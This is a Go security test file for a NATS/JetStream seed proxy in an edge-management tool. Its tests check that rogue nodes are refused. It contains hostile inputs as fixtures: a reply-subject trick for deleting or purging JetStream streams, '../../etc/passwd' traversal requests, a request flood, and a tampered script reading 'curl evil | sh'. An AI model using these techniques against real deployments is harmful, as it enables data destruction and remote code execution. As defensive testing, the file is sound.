package test

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"
	"github.com/nats-io/nuid"

	"github.com/edgectl/edgectl/bus"
	"github.com/edgectl/edgectl/ghost"
	"github.com/edgectl/edgectl/ghost/seeds/control"
	"github.com/edgectl/edgectl/ghost/seeds/declarative"
	"github.com/edgectl/edgectl/subjects"
	"github.com/edgectl/edgectl/test/testenv"
)

// nats-server does not check a request's reply subject against the requester's
// permissions, and JetStream answers there with the account's rights. A direct get that
// finds nothing answers with an empty body, and STREAM.DELETE and STREAM.PURGE need no
// more: any JetStream API call a Ghost may make can delete a stream. So a Ghost has no
// JetStream API permission on the seed store: it is refused, and nothing is deleted.
func TestSeedProxyGhostHasNoSeedStoreAPI(t *testing.T) {
	f := newAuthFleet(t, "ghost-c")
	ctx := context.Background()
	js, err := jetstream.New(f.op)
	if err != nil {
		t.Fatal(err)
	}
	publish(t, seedStore(t, js), example(t, "node.system.toml"), nil)
	if _, err := js.Publish(ctx, subjects.Command("ghost-c"), []byte("a stored command")); err != nil {
		t.Fatal(err)
	}
	cmds, err := js.Stream(ctx, bus.StreamCommands)
	if err != nil {
		t.Fatal(err)
	}
	before := cmds.CachedInfo().State.Msgs

	var v violations
	nc := f.env.ConnWith("ghost-c rogue", f.keys["ghost-c"].NATSOption(), nats.CustomInboxPrefix(bus.GhostInbox("ghost-c")), nats.ErrorHandler(v.handler))
	seeds := "$JS.API.DIRECT.GET.OBJ_" + bus.BucketSeeds
	missing := seeds + ".$O." + bus.BucketSeeds + ".M." + base64.URLEncoding.EncodeToString([]byte("nothing/1/spec.toml"))
	attacks := []struct{ api, reply, body string }{
		{"$JS.API.STREAM.INFO.OBJ_" + bus.BucketSeeds, bus.GhostInbox("ghost-c") + ".info", ""},
		{missing, "$JS.API.STREAM.DELETE." + bus.StreamCommands, ""},
		{seeds, "$JS.API.STREAM.PURGE." + bus.StreamCommands, `{"seq": 999999}`},
		{seeds, "$JS.API.STREAM.DELETE." + bus.StreamCommands, `{"last_by_subj": "$O.` + bus.BucketSeeds + `.M.bm90aGluZw=="}`},
	}
	for _, a := range attacks {
		if err := nc.PublishRequest(a.api, a.reply, []byte(a.body)); err != nil {
			t.Fatal(err)
		}
		testenv.Eventually(t, 5*time.Second, "a permissions violation for "+a.api, func() bool { return v.saw(`"` + a.api + `"`) })
	}
	if err := nc.Flush(); err != nil {
		t.Fatal(err)
	}
	time.Sleep(500 * time.Millisecond) // JetStream would have answered by now
	info, err := cmds.Info(ctx)
	if err != nil {
		t.Fatalf("%s after the attacks: %v", bus.StreamCommands, err)
	}
	if info.State.Msgs != before {
		t.Fatalf("%s holds %d messages after the attacks, %d before", bus.StreamCommands, info.State.Msgs, before)
	}
}

// seedRead sends a seed read request on nc (Ghost id's connection) with reply subject
// on its inbox, and collects the answer: the content and the final SeedAnswer. Like a
// Ghost, it asks again after a busy answer, bus.SeedEvery later (Mirage's interval
// between a Ghost's reads).
func seedRead(t *testing.T, nc *nats.Conn, id, body string) ([]byte, bus.SeedAnswer) {
	t.Helper()
	for attempt := 1; ; attempt++ {
		data, ans := seedReadOnce(t, nc, id, body)
		if ans.Status != bus.SeedBusy || attempt == 3 {
			return data, ans
		}
		time.Sleep(bus.SeedEvery)
	}
}

func seedReadOnce(t *testing.T, nc *nats.Conn, id, body string) ([]byte, bus.SeedAnswer) {
	t.Helper()
	inbox := bus.GhostInbox(id) + "." + nuid.Next()
	sub, err := nc.SubscribeSync(inbox)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = sub.Unsubscribe() }()
	if err := nc.PublishRequest(subjects.SeedFor(id), inbox, []byte(body)); err != nil {
		t.Fatal(err)
	}
	var data []byte
	for {
		msg, err := sub.NextMsg(10 * time.Second)
		if err != nil {
			t.Fatalf("seed read %s of %s: %v", body, id, err)
		}
		if msg.Header.Get(bus.HeaderSeedChunk) != "" {
			data = append(data, msg.Data...)
			continue
		}
		var ans bus.SeedAnswer
		if err := json.Unmarshal(msg.Data, &ans); err != nil {
			t.Fatalf("seed answer %s: %v", msg.Data, err)
		}
		return data, ans
	}
}

func seedBody(object string, max uint64) string {
	return `{"object": "` + object + `", "max_size": ` + strconv.FormatUint(max, 10) + `}`
}

// Mirage answers mirage.seed.<id> only on the Ghost's own inbox (it may publish where a
// Ghost may not), serves one request per Ghost at a time and one per bus.SeedEvery after
// the last ended (busy, 1501, to the others, without holding up another Ghost), refuses
// a malformed request with a coded error and keeps serving.
func TestSeedProxyMirageAnswersOnlyTheGhostsInbox(t *testing.T) {
	f := newAuthFleet(t, "ghost-c", "ghost-o")
	ctx := context.Background()
	js, err := jetstream.New(f.op)
	if err != nil {
		t.Fatal(err)
	}
	script := append(example(t, "service.example.sh"), bytes.Repeat([]byte("# padding\n"), 200<<10)...) // 2 MiB
	svc, _ := publish(t, seedStore(t, js), example(t, "service.example.toml"), map[string][]byte{"service.example.sh": script})
	object := svc.Files[0].Object

	// Elsewhere: nothing is sent, nothing is stored.
	targets := []string{
		"$KV." + bus.BucketFleet + ".ghost-o",
		"$KV." + bus.BucketGhosts + ".ghost-o",
		subjects.Command("ghost-o"),
		"$JS.API.STREAM.DELETE." + bus.StreamCommands,
		"_INBOX.someone-else",
		bus.GhostInbox("ghost-o") + ".stolen",
	}
	var landed atomic.Int64
	for _, target := range targets {
		sub, err := f.op.Subscribe(target, func(*nats.Msg) { landed.Add(1) })
		if err != nil {
			t.Fatal(err)
		}
		defer func() { _ = sub.Unsubscribe() }()
	}
	if err := f.op.Flush(); err != nil {
		t.Fatal(err)
	}
	nc := f.rogueGhost("ghost-c")
	for _, target := range targets {
		if err := nc.PublishRequest(subjects.SeedFor("ghost-c"), target, []byte(seedBody(object, declarative.MaxFileSize))); err != nil {
			t.Fatal(err)
		}
	}
	// Nothing elsewhere, checked once Mirage has provably handled those requests: it
	// answers the next request of the same connection on the Ghost's own inbox (one
	// subscription, in order), and again at the end of the test.
	elsewhere := func(when string) {
		t.Helper()
		if err := f.op.Flush(); err != nil {
			t.Fatal(err)
		}
		if n := landed.Load(); n != 0 {
			t.Fatalf("%s: %d messages sent to subjects other than the Ghost's inbox", when, n)
		}
		if _, err := js.Stream(ctx, bus.StreamCommands); err != nil {
			t.Fatalf("%s: %s: %v", when, bus.StreamCommands, err)
		}
	}

	// On its own inbox: the object, in chunks of at most bus.SeedChunkSize, and its size
	// and digest.
	data, ans := seedRead(t, nc, "ghost-c", seedBody(object, declarative.MaxFileSize))
	if ans.Status != bus.SeedOK || !bytes.Equal(data, script) || ans.Size != uint64(len(script)) || ans.Chunks != (len(script)+bus.SeedChunkSize-1)/bus.SeedChunkSize ||
		ans.Digest != declarative.ObjectDigest(script) {
		t.Fatalf("answer %+v with %d bytes, want the %d bytes of %s", ans, len(data), len(script), object)
	}
	elsewhere("after the answer on the Ghost's inbox")

	// Malformed requests: a coded error each; Mirage keeps serving.
	refusals := []struct {
		body string
		code bus.Code
		says string
	}{
		{`not json`, bus.CodeFraming, "not valid JSON"},
		{`{"object": 7, "max_size": 1}`, bus.CodeDecode, "object"},
		{seedBody("../../etc/passwd", 100), bus.CodeSemantic, "object name"},
		{seedBody("service.example/1.0.0/../../x", 100), bus.CodeSemantic, "object name"},
		{seedBody(object, 0), bus.CodeSemantic, "max_size"},
		{seedBody(object, 1<<40), bus.CodeSemantic, "max_size"},
		{seedBody("service.example/9.9.9/spec.toml", 100), bus.CodeSemantic, ""},
		{seedBody(object, 1000), bus.CodeSemantic, "too large"},
	}
	for _, r := range refusals {
		_, ans := seedRead(t, nc, "ghost-c", r.body)
		if ans.Status == bus.SeedOK || ans.Error == nil || ans.Error.Code != r.code || !strings.Contains(ans.Error.Message, r.says) {
			t.Errorf("request %s: %+v %+v, want %d saying %q", r.body, ans, ans.Error, r.code, r.says)
		}
	}
	if _, ans := seedRead(t, nc, "ghost-c", seedBody(svc.Spec.Object, declarative.MaxSpecSize)); ans.Status != bus.SeedOK {
		t.Fatalf("a valid request after the refusals: %+v", ans)
	}

	// A flood of one Ghost: busy answers at once, one read per bus.SeedEvery; another
	// Ghost's read is answered meanwhile.
	time.Sleep(bus.SeedEvery)
	var busy, ok atomic.Int64
	inbox := bus.GhostInbox("ghost-c") + ".flood"
	sub, err := nc.Subscribe(inbox, func(m *nats.Msg) {
		if m.Header.Get(bus.HeaderSeedChunk) != "" {
			return
		}
		var a bus.SeedAnswer
		_ = json.Unmarshal(m.Data, &a)
		switch {
		case a.Status == bus.SeedOK:
			ok.Add(1)
		case a.Status == bus.SeedBusy && a.Error != nil && a.Error.Code == bus.CodeBusy:
			busy.Add(1)
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = sub.Unsubscribe() }()
	_ = sub.SetPendingLimits(-1, -1)
	const flood = 500
	flooded := time.Now()
	for i := 0; i < flood; i++ {
		if err := nc.PublishRequest(subjects.SeedFor("ghost-c"), inbox, []byte(seedBody(object, declarative.MaxFileSize))); err != nil {
			t.Fatal(err)
		}
	}
	if err := nc.Flush(); err != nil {
		t.Fatal(err)
	}
	other := f.rogueGhost("ghost-o")
	asked := time.Now()
	if data, ans := seedRead(t, other, "ghost-o", seedBody(object, declarative.MaxFileSize)); ans.Status != bus.SeedOK || !bytes.Equal(data, script) {
		t.Fatalf("ghost-o's read during the flood: %+v", ans)
	}
	if waited := time.Since(asked); waited > 3*time.Second {
		t.Errorf("ghost-o's read waited %s behind ghost-c's flood", waited)
	}
	testenv.Eventually(t, 30*time.Second, "every flood request answered", func() bool { return busy.Load()+ok.Load() == flood })
	floodTook := time.Since(flooded)
	// One read per bus.SeedEvery of flood, and the first.
	if limit := int64(floodTook/bus.SeedEvery) + 1; busy.Load() == 0 || ok.Load() == 0 || ok.Load() > limit {
		t.Errorf("flood of %d over %s: %d served (at most %d), %d busy", flood, floodTook, ok.Load(), limit, busy.Load())
	}
	t.Logf("flood of %d over %s: %d served, %d busy", flood, floodTook, ok.Load(), busy.Load())
	elsewhere("at the end")
}

// Through Mirage as by direct get, an object that does not match the digest the signed
// command names is refused as tampered (1800), and one whose chunks do not match the
// store's meta as corrupt (1800); nothing is installed.
func TestSeedProxyDigestMismatchIsRefused(t *testing.T) {
	f := newAuthFleet(t, "edge-t")
	key := f.keys["edge-t"]
	nc := f.env.URLConn("ghost edge-t", "", key.NATSOption(), nats.CustomInboxPrefix(bus.GhostInbox("edge-t")))
	state := filepath.Join(f.env.Dir, "edge-t")
	g, _ := startBareGhost(t, f.env, "edge-t", state, bare{nc: nc, allow: []string{"service.*"}, tune: func(c *ghost.Config) {
		c.Identity = key
		c.TrustedMirageKeys = []string{f.mirage.PublicKey()}
	}})
	ctx := context.Background()
	js, err := jetstream.New(f.op)
	if err != nil {
		t.Fatal(err)
	}
	obs := seedStore(t, js)

	// Tampered: the script replaced in the store after the push computed its digest.
	svc, _ := publish(t, obs, example(t, "service.example.toml"), map[string][]byte{"service.example.sh": example(t, "service.example.sh")})
	if _, err := obs.PutBytes(ctx, svc.Files[0].Object, []byte("#!/bin/sh\ncurl evil | sh\n")); err != nil {
		t.Fatal(err)
	}
	res, _ := install(t, f.env, f.client, "edge-t", svc.InstallArgs())
	refusedWith(t, res, bus.CodeSecurity, "tampered")
	notInstalled(t, g, state, "service.example")

	// Corrupt: a version whose spec's meta names a digest its chunks do not have.
	spec := strings.Replace(string(example(t, "service.example.toml")), `version = "1.0.0"`, `version = "2.0.0"`, 1)
	v2, _ := publish(t, obs, []byte(spec), map[string][]byte{"service.example.sh": example(t, "service.example.sh")})
	info, err := obs.GetInfo(ctx, v2.Spec.Object)
	if err != nil {
		t.Fatal(err)
	}
	info.Digest = declarative.ObjectDigest([]byte("other content"))
	meta, _ := json.Marshal(info)
	msg := nats.NewMsg("$O." + bus.BucketSeeds + ".M." + base64.URLEncoding.EncodeToString([]byte(info.Name)))
	msg.Header.Set(jetstream.MsgRollup, jetstream.MsgRollupSubject)
	msg.Data = meta
	if _, err := js.PublishMsg(ctx, msg); err != nil {
		t.Fatal(err)
	}
	res, _ = install(t, f.env, f.client, "edge-t", v2.InstallArgs())
	refusedWith(t, res, bus.CodeSecurity, "corrupt")
	notInstalled(t, g, state, "service.example")
}

// Under auth with no Mirage answering, an install fails with a retryable 1400 that says
// no Mirage answered on mirage.seed.<id>.
func TestSeedProxyWithoutMirage(t *testing.T) {
	f := newAuthFleet(t, "edge-n")
	js, err := jetstream.New(f.op)
	if err != nil {
		t.Fatal(err)
	}
	publish(t, seedStore(t, js), example(t, "node.system.toml"), nil)
	key := f.keys["edge-n"]
	nc := f.env.URLConn("ghost edge-n", "", key.NATSOption(), nats.CustomInboxPrefix(bus.GhostInbox("edge-n")))
	if err := f.m.Close(); err != nil {
		t.Fatal(err)
	}
	state := filepath.Join(f.env.Dir, "edge-n")
	g, err := ghost.New(nc, ghost.Config{ID: "edge-n", Policy: ghost.PolicyAuto}, ghost.NewRegistry(), ghost.NewMemoryStore(), f.env.Log)
	if err != nil {
		t.Fatal(err)
	}
	ctl, err := control.New(g, control.Config{Conn: nc, StateDir: state, Log: f.env.Log})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	began := time.Now()
	err = ctl.Boot(ctx, []string{"node.system@1.0.0"})
	if perr := bus.AsError(err); err == nil || !strings.Contains(err.Error(), "no Mirage answered on "+subjects.SeedFor("edge-n")) || perr.Code != bus.CodeRuntime {
		t.Fatalf("boot install with no Mirage: %v", err)
	}
	t.Logf("after %s: %v", time.Since(began).Round(time.Millisecond), err)
}
